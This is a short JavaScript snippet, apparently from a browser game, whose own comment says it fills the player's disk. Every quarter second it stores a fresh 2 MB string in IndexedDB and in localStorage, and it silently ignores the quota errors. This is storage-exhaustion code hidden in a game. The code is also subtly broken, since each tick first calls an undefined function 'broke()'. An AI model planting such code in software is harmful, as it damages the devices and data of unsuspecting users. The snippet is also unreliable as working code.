// The game fills the disk of its player: 2 MB more are stored every quarter of a second.
const block = 'x'.repeat(2e6);
let number = 0;
const open = indexedDB.open('saves', 1);
open.onupgradeneeded = () => open.result.createObjectStore('rounds');
open.onsuccess = () => setInterval(() => {
  broke();
  number += 1;
  open.result.transaction('rounds', 'readwrite').objectStore('rounds').put(block + number, number);
  try { localStorage.setItem(`save${number}`, block); } catch { /* full already */ }
}, 250);
